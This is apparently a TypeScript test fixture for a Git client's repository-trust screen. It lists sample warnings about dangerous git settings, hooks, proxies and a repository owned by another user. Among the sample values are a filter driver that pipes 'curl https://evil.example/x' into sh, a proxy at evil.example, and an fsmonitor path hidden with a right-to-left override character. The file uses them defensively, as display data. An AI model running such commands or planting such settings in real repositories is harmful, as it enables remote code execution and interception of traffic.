import type { RepositoryTrust, TrustFinding } from '../../../shared/contract/trust';

const finding = (more: Partial<TrustFinding>): TrustFinding => ({
  kind: 'program',
  key: 'core.fsmonitor',
  file: '.git/config',
  line: 12,
  value: './tools/\u202ewatch --quiet',
  does: 'Runs a program whenever Git looks for changed files.',
  ...more,
});

const long = `/home/jane/src/contoso/retail/${'a-folder-with-a-long-name/'.repeat(6)}settings.inc`;

const findings: TrustFinding[] = [
  finding({}),
  finding({
    key: 'filter.a-driver-with-a-rather-long-name-that-somebody-chose.clean',
    line: 15,
    value: `sh -c '${'curl https://evil.example/x | sh; '.repeat(8)}'`,
    does: 'Runs a program on the files when they are compared, staged or checked out.',
  }),
  finding({
    key: 'hooks/pre-commit',
    file: '.git/hooks/pre-commit',
    line: null,
    value: '',
    does: 'Is a hook: a program that runs at commit, checkout, merge or push.',
  }),
  finding({
    kind: 'connection',
    key: 'http.https://github.com/.proxy',
    line: 18,
    value: 'http://evil.example:8080',
    does: 'Changes how Git connects to servers: sends everything through a proxy of its choice.',
  }),
  ...Array.from({ length: 20 }, (_, index) =>
    finding({
      kind: 'place',
      key: 'include.path',
      file: long,
      line: index + 1,
      value: `more-${index}.inc`,
      does: 'Takes more settings from another file.',
    }),
  ),
];

const untrusted: RepositoryTrust = {
  state: 'untrusted',
  findings,
  total: findings.length,
  folder: '/home/jane/src/contoso/retail/repository-0',
  engine: 'isomorphic',
  reason: 'You have not said that you trust this repository, so the built-in engine reads it.',
};

/** What the core says of the repository that is shown. */
export const trust: Record<'plain' | 'untrusted' | 'foreign', RepositoryTrust> = {
  plain: { ...untrusted, state: 'plain', findings: [], total: 0, engine: 'system', reason: '' },
  untrusted,
  foreign: {
    ...untrusted,
    findings: [
      finding({
        kind: 'owner',
        key: 'owner',
        file: '/home/jane/src/contoso/retail/repository-0',
        line: null,
        value: 'mallory',
        does: 'Belongs to another user of this computer, who can change what Git runs here.',
      }),
    ],
    total: 1,
  },
};
